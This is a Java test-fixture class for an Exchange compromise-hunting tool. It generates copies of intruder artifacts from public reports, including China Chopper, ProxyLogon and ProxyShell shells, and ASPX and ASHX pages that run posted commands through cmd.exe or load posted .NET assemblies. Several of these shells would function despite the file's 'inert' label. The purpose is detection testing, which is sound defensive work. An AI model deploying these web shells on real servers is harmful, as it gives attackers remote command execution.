package org.exhunt.testkit.image;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.SplittableRandom;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * The contents of files intruders left on Exchange servers, written for exhunt from the public descriptions of
 * the attacks: small, inert stand-ins with the shape the write-ups show (none is a real sample). Random parts
 * come from the given seed, so the same call gives the same bytes.
 */
public final class Artifacts {

    private Artifacts() {}

    /**
     * The China Chopper one-liner of the HAFNIUM intrusions (CISA AA21-062A; Microsoft's HAFNIUM post): JScript
     * that evaluates a request parameter.
     */
    public static byte[] chopper(String parameter) {
        return ("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"" + parameter + "\"],\"unsafe\");%>")
                .getBytes(StandardCharsets.US_ASCII);
    }

    /** The script ProxyLogon puts in the OAB virtual directory's ExternalUrl (CVE-2021-27065). */
    public static String oabScript(String parameter) {
        return "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\""
                + parameter + "\"],\"unsafe\");}</script>";
    }

    /**
     * The file ProxyLogon's ResetOABVirtualDirectory writes (CVE-2021-27065): the OAB virtual directory's
     * settings as Exchange exports them, its ExternalUrl holding the Chopper script, so IIS runs the file as a page.
     */
    public static byte[] oabVirtualDirectoryShell(String host, String build, String parameter) {
        String fqdn = host + ".contoso.local";
        String[] b = build.split("\\.");
        String[][] settings = {
            {"Name", "OAB (Default Web Site)"},
            {"PollInterval", "480"},
            {"OfflineAddressBooks", ""},
            {"RequireSSL", "False"},
            {"BasicAuthentication", "False"},
            {"WindowsAuthentication", "True"},
            {"OAuthAuthentication", "True"},
            {"MetabasePath", "IIS://" + fqdn + "/W3SVC/1/ROOT/OAB"},
            {"Path", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB"},
            {"ExtendedProtectionTokenChecking", "None"},
            {"ExtendedProtectionFlags", ""},
            {"ExtendedProtectionSPNList", ""},
            {"AdminDisplayVersion", "Version " + b[0] + "." + b[1] + " (Build " + b[2] + "." + b[3] + ")"},
            {"Server", host},
            {"InternalUrl", "https://" + fqdn.toLowerCase(java.util.Locale.ROOT) + "/OAB"},
            {"InternalAuthenticationMethods", "{WindowsIntegrated, OAuth}"},
            {"ExternalUrl", oabScript(parameter)},
            {"ExternalAuthenticationMethods", "{WindowsIntegrated, OAuth}"},
            {"AdminDisplayName", ""},
            {"ExchangeVersion", "0.10 (14.0.100.0)"},
            {"DistinguishedName", "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=" + host
                    + ",CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,"
                    + "CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local"},
            {"Identity", host + "\\OAB (Default Web Site)"},
            {"Guid", "982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3"},
            {"ObjectCategory", "contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory"},
            {"ObjectClass", "{top, msExchVirtualDirectory, msExchOABVirtualDirectory}"},
            {"OriginatingServer", "DC01.contoso.local"},
            {"IsValid", "True"},
            {"ObjectState", "Unchanged"},
        };
        StringBuilder s = new StringBuilder("\r\n\r\n");
        for (String[] kv : settings) s.append(String.format("%-31s : %s\r\n", kv[0], kv[1]));
        return s.append("\r\n\r\n").toString().getBytes(StandardCharsets.US_ASCII);
    }

    /**
     * A ProxyShell web shell (CVE-2021-31207): a mailbox exported as a PST file under a web folder. The file starts
     * with the PST signature {@code !BDN}; the attacker encoded the attachment so that PST's own byte permutation
     * leaves the page in plain text inside the otherwise scrambled blocks, and ASP.NET runs it (Orange Tsai,
     * Black Hat USA 2021; the ZDI write-up).
     */
    public static byte[] pstShell(long seed, String parameter) {
        SplittableRandom r = new SplittableRandom(seed);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] header = new byte[512];
        header[0] = '!';
        header[1] = 'B';
        header[2] = 'D';
        header[3] = 'N';
        header[8] = 'S';   // wMagicClient "SM"
        header[9] = 'M';
        header[10] = 23;   // wVer: Unicode PST
        header[12] = 19;   // wVerClient
        header[14] = 1;    // bPlatformCreate / bPlatformAccess
        header[15] = 1;
        for (int i = 4; i < 8; i++) header[i] = (byte) r.nextInt(256);   // dwCRCPartial
        out.writeBytes(header);
        out.writeBytes(noise(r, 6144));
        out.writeBytes(("<%@ Page Language=\"JScript\" Debug=true%><%eval(Request.Item[\"" + parameter
                + "\"],\"unsafe\");%>").getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(noise(r, 9728));
        return out.toByteArray();
    }

    /**
     * An ASP.NET handler that loads an assembly sent in the request and runs it, the loader style of the shells
     * dropped after ProxyNotShell (GTSC, 2022-09: {@code pxh4HG1v.ashx} in {@code owa\auth}).
     */
    public static byte[] ashxLoader(String parameter) {
        return ("<%@ WebHandler Language=\"C#\" Class=\"Handler\" %>\r\n"
                + "using System;\r\nusing System.Web;\r\nusing System.Reflection;\r\n\r\n"
                + "public class Handler : IHttpHandler {\r\n"
                + "    public void ProcessRequest(HttpContext context) {\r\n"
                + "        byte[] code = Convert.FromBase64String(context.Request.Form[\"" + parameter + "\"]);\r\n"
                + "        Assembly.Load(code).CreateInstance(\"U\").Equals(context);\r\n"
                + "    }\r\n"
                + "    public bool IsReusable { get { return false; } }\r\n"
                + "}\r\n").getBytes(StandardCharsets.US_ASCII);
    }

    /** An ASPX page that runs {@code cmd.exe} with the posted command and writes its output back. */
    public static byte[] commandShell(String parameter) {
        return ("<%@ Page Language=\"C#\" %>\r\n<%@ Import Namespace=\"System.Diagnostics\" %>\r\n"
                + "<script runat=\"server\">\r\nvoid Page_Load(object sender, EventArgs e) {\r\n"
                + "  var psi = new ProcessStartInfo(\"cmd.exe\");\r\n  psi.Arguments = \"/c \" + Request.Form[\"" + parameter
                + "\"];\r\n  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\r\n"
                + "  Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());\r\n}\r\n</script>\r\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    /**
     * A SPORTSBALL-style page (Volexity, "Operation Exchange Marauder", 2021-03-02: an ASPX shell of the Exchange
     * intrusions that uploads files or runs commands): a cookie gate, then either the posted file saved beside the page
     * or the posted command typed into cmd.exe's standard input, its output shown in a page control.
     */
    public static byte[] sportsball() {
        return ("<%@ Page Language=\"C#\" %>\r\n<%@ Import Namespace=\"System.IO\" %>\r\n<script runat=\"server\">\r\n"
                + "protected void Page_Load(object sender, EventArgs e) {\r\n"
                + "    if (HttpContext.Current.Request.Cookies[\"lgn\"] == null) return;\r\n"
                + "    Result.InnerText = string.Empty;\r\n"
                + "    if (HttpContext.Current.Request.Files.Count > 0) {\r\n"
                + "        HttpPostedFile f = HttpContext.Current.Request.Files[0];\r\n"
                + "        f.SaveAs(Path.Combine(Server.MapPath(\".\"), Path.GetFileName(f.FileName)));\r\n"
                + "    } else if (!string.IsNullOrEmpty(HttpContext.Current.Request.Form[\"cmd\"])) {\r\n"
                + "        System.Diagnostics.Process process = new System.Diagnostics.Process();\r\n"
                + "        process.StartInfo.FileName = \"cmd.exe\";\r\n"
                + "        process.StartInfo.UseShellExecute = false;\r\n"
                + "        process.StartInfo.RedirectStandardInput = true;\r\n"
                + "        process.StartInfo.RedirectStandardOutput = true;\r\n"
                + "        process.Start();\r\n"
                + "        process.StandardInput.WriteLine(HttpContext.Current.Request.Form[\"cmd\"]);\r\n"
                + "        process.StandardInput.WriteLine(\"exit\");\r\n"
                + "        Result.InnerText = process.StandardOutput.ReadToEnd();\r\n"
                + "    }\r\n}\r\n</script>\r\n"
                + "<html><body><form method=\"post\" enctype=\"multipart/form-data\" runat=\"server\"><input name=\"cmd\" />"
                + "<input type=\"file\" name=\"upl\" /><input type=\"submit\" value=\"Upload\" /><pre id=\"Result\" runat=\"server\"></pre>"
                + "</form></body></html>\r\n").getBytes(StandardCharsets.US_ASCII);
    }

    /**
     * A SIMPLESEESHARP-style page (Volexity, 2021-03-02: "a simple ASPX web shell that allows an attacker to write
     * further files to disk"): one code block that saves the posted file beside the page.
     */
    public static byte[] simpleSeeSharp() {
        return ("<%@ Page Language=\"C#\" %>\r\n<% HttpPostedFile thisFile = Request.Files[0];"
                + "thisFile.SaveAs(Path.Combine(Server.MapPath(\".\"), Path.GetFileName(thisFile.FileName))); %>\r\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    /**
     * The China Chopper server side as a script block, the form CISA's malware analysis reports of 2021 show in pages
     * such as {@code TimeoutLogout.aspx} (MAR-10328877, AA21-062A).
     */
    public static byte[] chopperScript(String parameter) {
        return ("<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"" + parameter
                + "\"],\"unsafe\");}</script>\r\n").getBytes(StandardCharsets.US_ASCII);
    }

    /**
     * A dropper page of the 2021 intrusions: writes the posted text into a file the request names, through a
     * StreamWriter (CISA MAR-10328929; Swisscom's description of the samples, 2021-03-05).
     */
    public static byte[] streamWriterDropper() {
        return ("<%@ Page Language=\"C#\" %>\r\n<script runat=\"server\">protected void Page_Load(object sender, EventArgs e)"
                + "{System.IO.StreamWriter sw = new System.IO.StreamWriter(Request.Form[\"p\"], false, System.Text.Encoding.Default);"
                + "sw.Write(Request.Form[\"f\"]);sw.Close();}</script>\r\n").getBytes(StandardCharsets.US_ASCII);
    }

    /**
     * A GLASSTOKEN-style page (Volexity, 2024-01-10: a reGeorg-derived tunnel and a function that runs .NET code sent
     * to it): the tunnel's headers, then request data decoded twice from base64, loaded as an assembly and instantiated.
     */
    public static byte[] glasstoken() {
        return ("<%@ Page Language=\"C#\" EnableSessionState=\"True\" %>\r\n<%@ Import Namespace=\"System.Reflection\" %>\r\n"
                + "<script runat=\"server\">\r\nprotected void Page_Load(object sender, EventArgs e) {\r\n"
                + "    string cmd = Request.Headers.Get(\"X-CMD\");\r\n"
                + "    if (cmd == \"CONNECT\") { Session[\"t\"] = Request.Headers.Get(\"X-TARGET\"); Response.AddHeader(\"X-STATUS\", \"OK\"); return; }\r\n"
                + "    if (Request.Form[\"d\"] != null) {\r\n"
                + "        byte[] errors = Convert.FromBase64String(System.Text.Encoding.Default.GetString(Convert.FromBase64String(Request.Form[\"d\"])));\r\n"
                + "        Assembly.Load(errors).CreateInstance(\"Qk7t\").GetHashCode();\r\n"
                + "    }\r\n}\r\n</script>\r\n").getBytes(StandardCharsets.US_ASCII);
    }

    /**
     * Code an intruder appends to one of Exchange's own pages, so that the page still works and still has its name: a
     * C# code block (a page takes script in its own language only) that runs the command a request parameter carries.
     */
    public static byte[] pageBackdoor(String parameter) {
        return ("<% if (Request[\"" + parameter + "\"] != null) { var psi = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\","
                + " \"/c \" + Request[\"" + parameter + "\"]); psi.UseShellExecute = false; psi.RedirectStandardOutput = true;"
                + " Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd()); } %>\r\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    /** The shape of reGeorg's ASP.NET tunnel (its headers and commands), without its socket code. */
    public static byte[] tunnel() {
        return ("<%@ Page Language=\"C#\" EnableSessionState=\"True\"%>\r\n<%@ Import Namespace=\"System.Net.Sockets\" %>\r\n"
                + "<%\r\n  String cmd = Request.Headers.Get(\"X-CMD\");\r\n  if (cmd == \"CONNECT\") {\r\n"
                + "    String target = Request.Headers.Get(\"X-TARGET\"); int port = int.Parse(Request.Headers.Get(\"X-PORT\"));\r\n"
                + "    Socket sock = null; Session.Add(\"socket\", sock); Response.AddHeader(\"X-STATUS\", \"OK\");\r\n"
                + "  } else if (cmd == \"DISCONNECT\") { Session.Abandon(); Response.AddHeader(\"X-STATUS\", \"OK\");\r\n"
                + "  } else if (cmd == \"FORWARD\") { Response.AddHeader(\"X-STATUS\", \"OK\");\r\n"
                + "  } else if (cmd == \"READ\") { Response.AddHeader(\"X-STATUS\", \"OK\"); }\r\n%>\r\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    /**
     * The start of an LSASS minidump as comsvcs.dll's MiniDump writes it: the {@code MDMP} signature and version,
     * then scrambled stream data standing in for the process memory (a real dump is tens of megabytes).
     */
    public static byte[] minidump(long seed) {
        SplittableRandom r = new SplittableRandom(seed);
        byte[] head = {'M', 'D', 'M', 'P', (byte) 0x93, (byte) 0xA7, 0, 0, 17, 0, 0, 0, 32, 0, 0, 0};
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(head);
        out.writeBytes(noise(r, 8176));
        return out.toByteArray();
    }

    /**
     * An archive staged for theft in ProgramData (HAFNIUM compressed stolen data with 7-Zip into files such as
     * {@code C:\ProgramData\it.zip}): a zip of {@code entry} holding scrambled bytes, with fixed entry times.
     */
    public static byte[] stagedArchive(long seed, String entry) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            ZipEntry e = new ZipEntry(entry);
            e.setTimeLocal(java.time.LocalDateTime.of(2021, 3, 3, 6, 14, 40));   // not the clock: the same bytes everywhere
            zip.putNextEntry(e);
            zip.write(noise(new SplittableRandom(seed), 6000));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);   // memory does not fail
        }
        return bytes.toByteArray();
    }

    private static byte[] noise(SplittableRandom r, int n) {
        byte[] b = new byte[n];
        for (int i = 0; i < n; i++) b[i] = (byte) r.nextInt(256);
        return b;
    }
}
